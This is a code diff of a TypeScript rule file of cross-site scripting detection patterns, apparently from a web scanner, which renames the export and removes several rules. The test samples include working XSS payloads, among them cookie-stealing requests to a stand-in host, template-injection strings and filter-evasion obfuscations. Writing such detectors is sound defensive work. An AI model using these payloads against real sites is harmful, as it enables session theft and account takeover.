@@ -1,14 +1,12 @@
-/** Cross-site scripting: script code, by itself or behind a string that is closed. */
-import { called, SINKS } from './context.ts'
-import type { Pattern } from './pattern.ts'
+/** Cross-site scripting: functions called where a value should stand. */
+import { called, SINKS } from '../context.ts'
+import type { Pattern } from '../pattern.ts'
 import {
   any,
   border,
-  digits,
   edge,
   letters,
   maybe,
-  not,
   odd,
   phrases,
   quote,
@@ -18,7 +16,7 @@ import {
   within,
   word,
   words,
-} from './tokens.ts'
+} from '../tokens.ts'
 
 const category = 'xss'
 const severity = 'high'
@@ -51,7 +49,7 @@ const callback: Token = [
   any(')', ',', border, run(' ;', 1)),
 ]
 
-export const xssScript: readonly Pattern[] = [
+export const xssCalls: readonly Pattern[] = [
   {
     id: 'xss-dialog-start',
     category,
@@ -207,59 +205,6 @@ export const xssScript: readonly Pattern[] = [
     pass: ['http://h/x)//', '<!-- x -->', 'f();//'],
   },
   {
-    id: 'xss-page-object-start',
-    category,
-    severity,
-    message: 'The value reaches for an object of the page',
-    score: 5,
-    literals: words(
-      'document window self top parent globalThis frames location navigator localStorage sessionStorage',
-    ),
-    before: [border, run('/;({[!+~\' "`-', 0, 8)],
-    after: [
-      any(
-        [
-          any('.', '?.'),
-          any(
-            ...words(`
-            cookie domain location write body documentElement createElement getElementById querySelector
-            getItem setItem sendBeacon href assign replace( open name alert eval origin forms defaultView
-            constructor
-          `),
-          ),
-          not(run('a-z', 1)),
-        ],
-        ['[', any(quote, '/', '`', run('a-z0-9(+!', 1)), within(60, ']')],
-        [space, '=', space, any(quote, '//', 'javascript', 'http', 'name', '`')],
-      ),
-    ],
-    match: [
-      'document.cookie',
-      'window["alert"](1)',
-      'document["cookie"]',
-      "location='//h'",
-      'top[/al/.source+/ert/.source](1)',
-    ],
-    pass: ['document.pdf', 'location of the shop', 'parent.id', 'top=10', 'window.history.history'],
-  },
-  {
-    id: 'xss-page-object',
-    category,
-    severity: 'medium',
-    message: 'Cookie, domain or storage of the page',
-    score: 3,
-    aggressive: 5,
-    literals: words(`
-      document.cookie document.domain document.write document[ document.location window.location
-      location.href= document?.cookie localStorage. window.name document.body.innerHTML top.location
-      document.referrer self.location document.URL
-    `),
-    before: [edge, not('//')],
-    after: [any(run('^a-z0-9', 1), border, 'ln(', 'getItem', 'setItem')],
-    match: ['x=document.cookie', 'y(document.domain)', 'window.location=z'],
-    pass: ['my document.cookies', 'document of domain'],
-  },
-  {
     id: 'xss-dialog-argument',
     category,
     severity,
@@ -353,18 +298,6 @@ export const xssScript: readonly Pattern[] = [
     pass: ['setTimeout(tick, 5)', 'eval(expr)', 'import("./a.js")'],
   },
   {
-    id: 'xss-char-code',
-    category,
-    severity,
-    message: 'Text spelt in character codes by a script',
-    score: 3,
-    aggressive: 5,
-    literals: ['String.fromCharCode(', 'fromCodePoint(', 'String.raw`', 'unescape(', 'decodeURIComponent('],
-    after: [space, any([digits, space, any(',', ')')], [quote, any('%', '\\')], '0x')],
-    match: ['String.fromCharCode(88,83,83)', "unescape('%61')"],
-    pass: ['String.fromCharCode(code)', 'unescape(text)'],
-  },
-  {
     id: 'xss-constructor-call',
     category,
     severity,
@@ -390,34 +323,6 @@ export const xssScript: readonly Pattern[] = [
     pass: ['the constructor (of x)', 'class.constructor(a)', 'constructor.name'],
   },
   {
-    id: 'xss-handler-assigned',
-    category,
-    severity,
-    message: 'An error handler set to evaluate what is thrown',
-    score: 5,
-    literals: ['onerror=', 'onerror ='],
-    after: [
-      space,
-      any('eval', 'alert', 'confirm', 'prompt', 'Function', 'setTimeout', 'top.', 'window.'),
-      edge,
-    ],
-    match: ['window.onerror=eval;throw 1', '{onerror=alert}throw 1'],
-    pass: ['window.onerror = handler', 'onerror=log'],
-  },
-  {
-    id: 'xss-throw',
-    category,
-    severity: 'medium',
-    message: 'Something thrown to a handler that the value set',
-    score: 3,
-    aggressive: 5,
-    literals: ['throw'],
-    before: [within(60, any('onerror=', 'onerror =', 'eval', '{'), '\n'), run(';}, \t/', 1)],
-    after: [any('/', '"', "'", '`', digits, [run(' \t', 1, 4), any(digits, quote)], 'onerror')],
-    match: ['{onerror=f}throw 1', "onerror=eval;throw'=alert(1)'", '{x}throw/0/+name'],
-    pass: ['throw new Error(x)', 'a throw 1'],
-  },
-  {
     id: 'xss-array-call',
     category,
     severity,
@@ -430,118 +335,6 @@ export const xssScript: readonly Pattern[] = [
     after: [any(callback, [within(16, [',', callback], ')(')])],
     match: ['[1].map(alert)', '[8].find(confirm)', 'Array.from([1],alert)', 'Reflect.apply(alert,null,[1])'],
     pass: ['list.map(toText)', 'a.sort(byName)', 'x.replace(a, alerts)'],
-  },
-  {
-    id: 'xss-tagged-symbol',
-    category,
-    severity: 'medium',
-    message: 'Script code written without letters',
-    score: 5,
-    literals: ['(![]+[])', '[][[]]', '(!![]+[])', '+!+[]', '[+!+[]]', '$=~[]', '=~[];', '(_=!1+'],
-    after: [run('^\n', 1)],
-    match: ['[][(![]+[])[+[]]]', '$=~[];$={x:1}', '(!![]+[])[0]'],
-    pass: ['[]', '- [ ] todo', '!!x'],
-  },
-  {
-    id: 'xss-name-split',
-    category,
-    severity,
-    message: 'The name of a dialog or evaluator put together from pieces',
-    score: 5,
-    literals: [
-      "'al'",
-      '"al"',
-      "'ale'",
-      '"ale"',
-      "'aler'",
-      '"aler"',
-      "'ev'",
-      '"ev"',
-      "'eva'",
-      "'con'",
-      "'conf'",
-      '"con"',
-      "'pro'",
-      "'prom'",
-      '"pro"',
-      "'prom",
-      "'con",
-      '`al`',
-      '"eva"',
-      '/al/',
-      "'a'",
-      '"a"',
-      "'coo'",
-      '"coo"',
-      "'doc'",
-    ],
-    after: [
-      any(["'"], ['"'], ['']),
-      run('\'" ', 0, 2),
-      any('+', '.concat', '.source', ','),
-      run(' \'"`/+', 0, 4),
-      any('ert', 'rt', 't', 'al', 'a', 'l', 'firm', 'pt', 'mpt', 'kie', 'ument', 'lert'),
-      any(quote, '/', '('),
-    ],
-    match: ["top['al'+'ert'](1)", '["ev"+"al"]', '/al/.source+/ert/.source'],
-    pass: ["'al'", "'con' + x", '"pro" tips'],
-  },
-  {
-    id: 'xss-image-beacon',
-    category,
-    severity,
-    message: 'A request that carries data away',
-    score: 4,
-    aggressive: 5,
-    literals: phrases(`
-      new Image, new XMLHttpRequest, navigator.sendBeacon, new WebSocket(, new EventSource(,
-      XMLHttpRequest()
-    `),
-    after: [within(60, any('.src', '//', 'cookie', '.open(', 'http', 'document'))],
-    match: ['new Image().src="//h/"+document.cookie', "new XMLHttpRequest;x.open('GET','//h')"],
-    pass: ['a new Image of', 'new XMLHttpRequest'],
-  },
-  {
-    id: 'xss-fetch-away',
-    category,
-    severity,
-    message: 'Data of the page sent to another host',
-    score: 5,
-    literals: phrases(`
-      fetch(, location=, location.href=, location =, window.open(, .src=, location.assign(,
-      location.replace(, .href=
-    `),
-    after: [
-      space,
-      maybe(any(quote)),
-      any('//', 'http', '\\\\', 'ht'),
-      within(
-        100,
-        any(...words('document.cookie localStorage document.domain +document btoa( ?c= ?cookie cookie')),
-        '\n',
-      ),
-    ],
-    match: [
-      "fetch('//h/?'+document.cookie)",
-      "location='http://h/?c='+document.cookie",
-      "x.src='//h?cookie='+y",
-    ],
-    pass: ["fetch('/api/items')", 'location = "https://example.com"', 'img.src="//cdn/x.png"'],
-  },
-  {
-    id: 'xss-location-away',
-    category,
-    severity: 'medium',
-    message: 'The page is sent elsewhere',
-    score: 3,
-    aggressive: 5,
-    literals: words(
-      'location= location.href= window.location= location.replace( location.assign( document.location=',
-    ),
-    before: [any(edge, '.')],
-    after: [space, maybe(quote), any('//', 'http', 'javascript', 'data:', '\\')],
-    match: ["location='//h'", 'window.location.href=//h', 'location.assign("http://h")'],
-    pass: ['location=Paris', 'location.href=x', 'mylocation=//h'],
   },
   {
     id: 'xss-js-comment-polyglot',
@@ -562,87 +355,6 @@ export const xssScript: readonly Pattern[] = [
     ],
     match: ['javascript:/*--></title></style></textarea>', "/*`/*\\`/*'/*"],
     pass: ['/* --> */', '</title>'],
-  },
-  {
-    id: 'xss-template-expression',
-    category,
-    severity,
-    message: 'A template expression that calls script code',
-    score: 5,
-    literals: ['{{', '${', '{%', '#{', '[[${', '{{{'],
-    after: [
-      space,
-      within(
-        60,
-        any(
-          'alert(',
-          'alert`',
-          'confirm(',
-          'prompt(',
-          'eval(',
-          '$eval',
-          '$on.',
-          'constructor',
-          'toString().',
-          'document.',
-          '.call(',
-          '_openBlock',
-          '$emit',
-          'setTimeout(',
-          'fetch(',
-        ),
-        '}',
-      ),
-    ],
-    match: ["{{constructor.constructor('alert(1)')()}}", '${alert(1)}', '{{$on.x}}', '{{$eval(y)}}'],
-    pass: ['{{ user.name }}', '${price}', '{% if a %}'],
-  },
-  {
-    id: 'xss-inner-html',
-    category,
-    severity: 'medium',
-    message: 'Markup written into the page by a script',
-    score: 3,
-    aggressive: 5,
-    literals: words(`
-      innerHTML outerHTML insertAdjacentHTML document.write( createContextualFragment
-      dangerouslySetInnerHTML .html(
-    `),
-    after: [
-      space,
-      any(
-        ['=', within(40, any('<', 'location', 'atob', 'name'))],
-        ['(', within(40, any('<', 'location', 'atob'))],
-        within(20, any('<', 'location', 'atob', 'unescape'), ')'),
-      ),
-    ],
-    match: ["x.innerHTML='<img src=x>'", 'document.write(location.hash)'],
-    pass: ['innerHTML is unsafe', "el.innerHTML = ''"],
-  },
-  {
-    id: 'xss-load-script',
-    category,
-    severity,
-    message: 'A script loaded from elsewhere by code',
-    score: 5,
-    literals: [
-      "createElement('script",
-      'createElement("script',
-      'createElement(`script',
-      '$.getScript(',
-      'jQuery.getScript(',
-      'importScripts(',
-      "import('//",
-      'import("//',
-      'import(`//',
-      "import('http",
-      'import("http',
-      'import(`http',
-      'import(//',
-    ],
-    after: [run('^\n', 1)],
-    match: ["d.createElement('script').src=x", "$.getScript('//h')", "import('//h/x.js')"],
-    pass: ["createElement('div')", "import('./x.js')"],
   },
   {
     id: 'xss-plus-broken-out',
